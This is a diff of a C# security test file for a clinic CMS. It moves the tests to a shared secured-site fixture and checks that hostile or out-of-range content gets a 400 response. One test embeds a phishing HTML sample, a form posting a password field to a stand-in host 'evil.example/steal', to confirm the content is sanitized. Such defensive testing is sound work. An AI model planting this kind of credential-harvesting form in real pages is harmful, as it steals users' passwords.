@@ -9,23 +9,16 @@ using ClinicCms.Tests.TestHost;
 
 namespace ClinicCms.Tests.Security;
 
-/// <summary>Hostile or out-of-range content gets a 400 naming the problem, never a 500, and nothing is written.</summary>
-public sealed class BadInputTests(BadInputTests.Site shared) : IClassFixture<BadInputTests.Site>
+/// <summary>
+/// Hostile or out-of-range content gets a 400 naming the problem, never a 500, and nothing is written. One site for
+/// the class: the tests add items of their own and do not count each other's.
+/// </summary>
+public sealed class BadInputTests(SharedSecuredSite shared) : IClassFixture<SharedSecuredSite>
 {
-    /// <summary>One site for the class: the tests add items of their own and do not count each other's.</summary>
-    public sealed class Site : IAsyncLifetime
-    {
-        public SecuredSite Value { get; private set; } = null!;
-
-        public async ValueTask InitializeAsync() => Value = await SecuredSite.StartAsync();
-
-        public ValueTask DisposeAsync() => Value.DisposeAsync();
-    }
-
     [Fact]
     public async Task Html_loses_forms_and_iframes_unless_the_part_settings_allow_them()
     {
-        var site = shared.Value;
+        var site = shared.Site;
         using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
         var ct = TestContext.Current.CancellationToken;
         const string html = "<p>Hi</p><form action=\"https://evil.example/steal\"><label>Password <input name=\"password\" type=\"password\"></label>"
@@ -54,7 +47,7 @@ public sealed class BadInputTests(BadInputTests.Site shared) : IClassFixture<Bad
     [Fact]
     public async Task Unpaired_surrogates_huge_numbers_and_bad_paths_are_400s_naming_the_field_and_nothing_is_saved()
     {
-        var site = shared.Value;
+        var site = shared.Site;
         using var editor = site.WithToken(await site.TokenAsync("editor-app", "Editor-app-secret-1"));
         var ct = TestContext.Current.CancellationToken;
 
